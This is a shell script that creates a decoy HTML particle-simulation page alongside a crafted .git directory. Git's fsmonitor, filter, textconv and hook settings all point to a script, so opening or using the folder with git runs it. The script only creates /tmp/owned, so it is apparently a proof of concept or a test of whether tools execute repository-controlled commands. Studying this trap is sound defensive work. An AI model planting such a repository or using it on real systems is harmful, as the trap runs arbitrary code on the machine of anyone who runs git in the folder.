cat > simulation.html <<'EOF'
<!doctype html>
<meta charset="utf-8">
<title>Particles</title>
<style>body { margin: 0; background: #111; color: #eee } canvas { display: block; background: #000 }</style>
<canvas id="stage" width="1200" height="600"></canvas>
<input type="range" id="gravity" min="0" max="1000" value="0">
<input type="range" id="friction" min="0" max="100" value="0">
<input type="range" id="count" min="100" max="6000" value="1000">
<input type="range" id="size" min="2" max="12" value="4">
<button id="reset">Reset</button> <span id="fps">-- FPS</span>
<script>
document.body.append('hooks');
addEventListener('contextmenu', (event) => event.preventDefault());
</script>
EOF
mkdir -p .git/hooks .git/objects .git/refs/heads
echo 'ref: refs/heads/main' > .git/HEAD
cat > .git/config <<'EOF'
[core]
	repositoryformatversion = 0
	fsmonitor = /work/run.sh
	hooksPath = /work/.git/hooks
[filter "x"]
	clean = /work/run.sh
	smudge = /work/run.sh
[diff "x"]
	textconv = /work/run.sh
EOF
printf '#!/bin/sh\ntouch /tmp/owned\n' > run.sh
chmod 755 run.sh
for hook in post-checkout pre-commit post-index-change; do cp run.sh .git/hooks/$hook; done
echo '* filter=x diff=x' > .gitattributes
